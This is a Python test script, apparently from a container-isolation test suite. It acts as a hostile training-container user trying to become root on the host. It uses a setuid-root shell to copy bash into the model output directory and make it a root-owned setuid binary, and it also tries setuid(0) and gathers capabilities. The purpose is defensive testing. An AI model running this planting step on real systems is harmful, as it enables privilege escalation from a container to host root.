"""What a hostile user's container trainer tries, to become root on the host.

    setuid_attack.py [SETUID_SHELL]

As the container's user, it runs the image's setuid-root shell (default
/usr/local/bin/rootbash, made by the test image's `setuid` stage) to copy a shell into
/opt/ml/model, give it to root and set its setuid bit: on the host, anyone who runs that
file would be root. It also tries to gain capabilities. Whatever happens, it writes what it
saw to $SM_OUTPUT_DATA_DIR/attack.json and exits 0: the test judges the outcome.
"""

import json
import os
import subprocess
import sys

SHELL = sys.argv[1] if len(sys.argv) > 1 else "/usr/local/bin/rootbash"
base = os.environ["SAGEMAKER_BASE_DIR"]
planted = os.path.join(base, "model", "rootbash")


def status_fields() -> dict:
    fields = {}
    with open("/proc/self/status") as f:
        for line in f:
            key, _, value = line.partition(":")
            if key.startswith("Cap") or key in ("NoNewPrivs", "Uid", "Gid"):
                fields[key] = value.strip()
    return fields


def as_setuid_shell(script: str) -> dict:
    done = subprocess.run(
        [SHELL, "-p", "-c", script], capture_output=True, text=True, timeout=30, check=False
    )
    return {"status": done.returncode, "stdout": done.stdout, "stderr": done.stderr[-2000:]}


def mount_options() -> dict:
    """The options of the mounts at /opt/ml and below, as /proc/self/mountinfo says."""
    found = {}
    with open("/proc/self/mountinfo") as f:
        for line in f:
            fields = line.split()
            if fields[4] == base or fields[4].startswith(base + "/"):
                found[fields[4]] = fields[5].split(",")
    return found


report = {
    "status": status_fields(),
    "euid_via_setuid_shell": as_setuid_shell("id -u"),
    "caps_via_setuid_shell": as_setuid_shell("grep -E '^Cap(Eff|Prm)' /proc/self/status"),
    "plant": as_setuid_shell(
        f"cp /bin/bash {planted} && chown 0:0 {planted} && chmod 4755 {planted}"
    ),
    "mounts": mount_options(),
}
try:
    os.setuid(0)
    report["setuid0"] = "ok"
except OSError as exc:
    report["setuid0"] = exc.strerror
out = os.environ["SM_OUTPUT_DATA_DIR"]
with open(os.path.join(out, "attack.json.tmp"), "w") as f:
    json.dump(report, f)
os.replace(os.path.join(out, "attack.json.tmp"), os.path.join(out, "attack.json"))
print("attack tried")
